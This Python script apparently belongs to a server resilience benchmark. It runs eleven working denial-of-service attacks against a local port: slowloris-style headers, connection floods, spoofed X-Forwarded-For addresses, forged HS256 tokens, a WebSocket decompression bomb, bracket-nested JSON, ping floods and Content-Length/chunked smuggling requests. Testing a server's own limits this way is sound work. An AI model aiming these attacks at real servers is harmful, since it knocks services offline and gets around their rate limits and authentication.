#!/usr/bin/python3
"""One attack on a server, paced, until it is ended: attackers.py NAME PORT [--pace N].

Started by attack_bench.py with the lowest priority there is, so that what it does to those who are
served comes from the server and not from sharing a core with their load. `--pace` multiplies how
often things are done in a second. With `--turn S` it attacks in every other S seconds of the
monotonic clock, the odd ones, and begins anew in each; `--of 4 --at 3` makes that the last of each
four.
"""

import argparse
import base64
import functools
import itertools
import json
import resource
import socket
import time
import zlib

ATTACKER = "127.0.0.66"  # not trusted, not exempt: its own limits count
PROXY = "127.0.0.1"  # trusted: it may say for whom it asks
HELD = 500
TICK_S = 0.01
PIECE = 8192
turns = argparse.Namespace(turn=0, of=2, at=1)


def connect(port, source=ATTACKER, receive_buffer=None):
    connection = socket.socket()
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(2)
    connection.bind((source, 0))
    connection.connect(("127.0.0.1", port))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def request(method, target, headers=(), body=b""):
    lines = [f"{method} {target} HTTP/1.1", "Host: localhost", *headers]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def handshake(port, target="/ws", extensions=False):
    connection = connect(port)
    fields = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"]
    fields.append("Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
    if extensions:
        fields.append("Sec-WebSocket-Extensions: permessage-deflate")
    connection.sendall(request("GET", target, fields))
    connection.recv(65536)
    return connection


def frame(opcode, payload, first=0x80):
    """Masked with zeros, which changes nothing."""
    size = len(payload)
    if size < 126:
        length = bytes([0x80 | size])
    elif size < 65536:
        length = b"\xfe" + size.to_bytes(2, "big")
    else:
        length = b"\xff" + size.to_bytes(8, "big")
    return bytes([first | opcode]) + length + b"\0\0\0\0" + payload


def resting():
    return turns.turn and int(time.monotonic() / turns.turn) % turns.of != turns.at


def paced(per_s):
    """Says how many times something is due, every tick; what was not done in time is left out."""
    begin, done = time.monotonic(), 0
    while not resting():
        due = int((time.monotonic() - begin) * per_s) - done
        if due:
            done += due
            yield min(due, int(per_s * TICK_S * 4) + 1)
        time.sleep(TICK_S)


def drain(connection):
    """Takes what has come, without waiting; False once the other side has closed."""
    connection.setblocking(False)
    try:
        while data := connection.recv(1 << 20):
            if not data:
                return False
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        connection.setblocking(True)


def send_in_pieces(connection, data):
    """A large send keeps the core in the kernel, where no priority helps those who share it."""
    for at in range(0, len(data), PIECE):
        connection.sendall(data[at : at + PIECE])


def once(port, data, read=True):
    """A connection of its own for one piece of data."""
    try:
        with connect(port) as connection:
            send_in_pieces(connection, data)
            if read:
                connection.recv(65536)
    except OSError:
        pass


def slow_heads(port, pace):
    """Half a thousand connections that send a byte of a head each second."""
    held = []
    for due in paced(HELD * pace):
        for _ in range(due):
            if len(held) < HELD:
                held.append(connect(port))
                held[-1].sendall(b"GET /health HTTP/1.1\r\nX: ")
                continue
            connection = held.pop(0)
            try:
                connection.sendall(b"x")
                held.append(connection)
            except OSError:
                connection.close()


def connections(port, pace):
    """A thousand connections a second, most of them beyond the limit of their client."""
    held = []
    for due in paced(1000 * pace):
        for _ in range(due):
            held.append(connect(port))
            held[-1].sendall(request("GET", "/health"))
            if len(held) > HELD:
                held.pop(0).close()


def idle(port, pace):
    """Three thousand connections that say nothing."""
    held = [connect(port, f"127.0.1.{number % 250 + 1}") for number in range(3000)]
    for _ in paced(1 * pace):
        held[0].setblocking(True)


def addresses(port, pace):
    """Twenty thousand requests a second, each of an address of its own, through a trusted proxy."""
    connection, numbers = connect(port, PROXY), itertools.count(10 << 24)
    for due in paced(20_000 * pace):
        batch = b"".join(
            b"GET /messages HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: %d.%d.%d.%d\r\n\r\n"
            % tuple(next(numbers).to_bytes(4, "big"))
            for _ in range(due)
        )
        connection.sendall(batch)
        drain(connection)


def one_client(port, pace):
    """The same from one address: beyond its rate, 429 each."""
    connection = connect(port)
    for due in paced(20_000 * pace):
        connection.sendall(request("GET", "/api/topics") * due)
        drain(connection)


def tokens(port, pace):
    """Five hundred forged tokens a second."""
    header = base64.urlsafe_b64encode(b'{"alg":"HS256","kid":"k"}').rstrip(b"=").decode()
    connection, numbers = connect(port), itertools.count()
    for due in paced(500 * pace):
        for number in itertools.islice(numbers, due):
            claims = json.dumps({"sub": str(number), "exp": 9e9}).encode()
            body = base64.urlsafe_b64encode(claims).rstrip(b"=").decode()
            bearer = f"Authorization: Bearer {header}.{body}.{'A' * 43}"
            connection.sendall(request("GET", "/api/topics", [bearer]))
        drain(connection)


def slow_readers(port, pace):
    """Two hundred subscribers of the load's own topic that never read."""
    held = [connect(port, f"127.0.1.{number + 1}", 4096) for number in range(200)]
    for connection in held:
        connection.sendall(request("GET", "/events?topic=load.0"))
    for _ in paced(1 * pace):
        pass


@functools.cache
def bomb():
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(b" " * (64 << 20)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return frame(1, data[:-4], 0xC0)


def bombs(port, pace):
    """Ten messages a second that are small and would be 64 MiB."""
    for due in paced(10 * pace):
        for _ in range(due):
            try:
                with handshake(port, extensions=True) as connection:
                    send_in_pieces(connection, bomb())
                    connection.recv(65536)
            except OSError:
                pass


def deep_json(port, pace):
    """Twenty bodies a second of 1 MB that are nothing but brackets."""
    body = b'[{"topic":"deep","data":' + b"[" * 500_000 + b"]" * 500_000 + b"}]"
    data = request("POST", "/api/events", (), body)
    for due in paced(20 * pace):
        for _ in range(due):
            once(port, data)


def pings(port, pace):
    """Twenty thousand pings a second over ten WebSockets."""
    held, turn = [handshake(port) for _ in range(10)], itertools.count()
    for due in paced(20_000 * pace):
        connection = held[next(turn) % len(held)]
        connection.sendall(frame(9, b"x" * 100) * due)
        drain(connection)


def malformed(port, pace):
    """A thousand requests a second that could be read two ways, each on a connection of its own."""
    lines = ["Content-Length: 5", "Transfer-Encoding: chunked"]
    data = "\r\n".join(["POST /api/events/a HTTP/1.1", "Host: localhost", *lines]).encode()
    for due in paced(1000 * pace):
        for _ in range(due):
            once(port, data + b"\r\n\r\n0\r\n\r\n")


ATTACKS = {
    "slow-heads": slow_heads,
    "connections": connections,
    "idle": idle,
    "addresses": addresses,
    "one-client": one_client,
    "tokens": tokens,
    "slow-readers": slow_readers,
    "bombs": bombs,
    "deep-json": deep_json,
    "pings": pings,
    "malformed": malformed,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("--pace", type=float, default=1)
    parser.add_argument("--turn", type=float, default=0, metavar="S")
    parser.add_argument("--of", type=int, default=2, metavar="N")
    parser.add_argument("--at", type=int, default=1, metavar="N")
    options = parser.parse_args(namespace=turns)
    bomb()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    while True:
        while resting():
            time.sleep(TICK_S)
        try:
            ATTACKS[options.name](options.port, options.pace)
        except OSError as error:
            print(f"{options.name}: {error}; begins anew", flush=True)
            time.sleep(0.05)


if __name__ == "__main__":
    main()
